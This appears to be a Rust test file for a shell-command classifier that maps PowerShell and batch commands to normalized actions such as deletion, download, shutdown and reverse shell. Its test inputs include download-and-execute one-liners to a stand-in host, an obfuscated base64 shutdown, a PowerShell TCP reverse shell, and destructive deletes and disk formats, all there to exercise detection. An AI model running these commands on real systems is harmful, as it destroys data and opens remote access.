//! PowerShell and batch.

use super::{
    super::encoded_command,
    Language::{Batch, PowerShell},
    check,
};

#[test]
fn acts_of_powershell() {
    check(
        PowerShell,
        &[
            ("Remove-Item -Recurse -Force out", &["same rm -r -f out"]),
            ("ri out -r -fo", &["same rm -r -f out"]),
            ("rm -Recurse 'a b'", &["same rm -r a b"]),
            ("del a.txt", &["same rm a.txt"]),
            ("Remove-Item -Path $HOME\\x -Recurse", &["same rm -r $HOME\\x"]),
            ("Get-ChildItem out | Remove-Item -Recurse", &["same rm -r out/*"]),
            ("iex 'Remove-Item -Recurse out'", &["same rm -r out"]),
            ("'rm -r out' | iex", &["same rm -r out"]),
            ("$c = 'Stop-Computer'; iex $c", &["same shutdown -h now"]),
            ("iex $args[0]", &["unknown"]),
            ("iex", &["unknown"]),
            (
                "IEX (New-Object Net.WebClient).DownloadString('https://x.example/a')",
                &["same curl https://x.example/a", "shell curl 'https://x.example/a' | pwsh -", "unknown"],
            ),
            (
                "iwr https://x.example/a | iex",
                &["same curl https://x.example/a", "shell curl 'https://x.example/a' | pwsh -", "unknown"],
            ),
            (
                "Invoke-WebRequest -Uri https://x.example/a -OutFile a.exe",
                &["same curl -o a.exe https://x.example/a"],
            ),
            (
                "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('U3RvcC1Db21wdXRlcg==')))",
                &["same shutdown -h now"],
            ),
            ("iex ('Stop-' + 'Computer')", &["same shutdown -h now"]),
            ("git push --force", &["run git push --force"]),
            ("& 'git' push -f", &["run git push -f"]),
            ("Start-Process git -ArgumentList 'push -f'", &["run git push -f"]),
            ("Set-Content C:\\x.txt 'rm -rf /'", &["write C:\\x.txt"]),
            ("'x' >> a.log", &["append a.log"]),
            ("Get-Process | Out-File a.log", &["write a.log"]),
            ("[IO.File]::Delete('a.txt')", &["same rm a.txt"]),
            ("[System.IO.Directory]::Delete('out', $true)", &["same rm -r -f out"]),
            ("Stop-Process -Name node -Force", &["same pkill -9 node"]),
            ("Format-Volume -DriveLetter D", &["run Format-Volume -DriveLetter D"]),
            ("if (Test-Path out) { Remove-Item out -Recurse }", &["same rm -r out"]),
            ("Get-ChildItem | ForEach-Object { Remove-Item $_ }", &["same rm $unknown"]),
            (
                "$c = New-Object System.Net.Sockets.TCPClient('10.1.1.1',9001);$s=$c.GetStream();while($true){$d=$s.Read();$r=(iex $d 2>&1)}",
                &["unknown", "reverse"],
            ),
        ],
    );
    check(
        PowerShell,
        &[
            ("Write-Host 'Remove-Item -Recurse C:\\'", &[]),
            ("Get-ChildItem -Recurse | Where-Object { $_.Length -gt 1MB } | Select-Object Name", &[]),
            ("# Stop-Computer\nGet-Date", &[]),
            ("$x = 1 + 2; Write-Output \"sum $x\"", &[]),
            ("Get-Content a.txt | Select-String 'rm -rf'", &["read a.txt"]),
            ("$PSVersionTable.PSVersion", &[]),
            ("1..3 | % { $_ * 2 }", &[]),
            ("(Get-Item a.txt).Length", &[]),
            ("ConvertFrom-Json '{\"a\": 1}' | Format-List", &[]),
        ],
    );
    assert_eq!(encoded_command("bABzAA==").as_deref(), Some("ls"));
}

#[test]
fn acts_of_batch() {
    check(
        Batch,
        &[
            ("del /s /q C:\\work", &["same rm -r -f C:\\work"]),
            ("rd /s /q out & echo done", &["same rm -r -f out"]),
            ("rmdir out", &["same rmdir out"]),
            ("format c: /q", &["run format c: /q"]),
            ("if exist out rd /s /q out", &["same rm -r -f out"]),
            ("for %f in (*.o) do del %f", &["same rm %f"]),
            ("shutdown /s /t 0", &["run shutdown /s /t 0"]),
            ("echo x > C:\\x.txt", &["write C:\\x.txt"]),
            ("d^el \"a b.txt\"", &["same rm a b.txt"]),
            ("echo del /s /q C:\\", &[]),
            ("dir /s > nul", &[]),
            ("rem del x", &[]),
        ],
    );
}
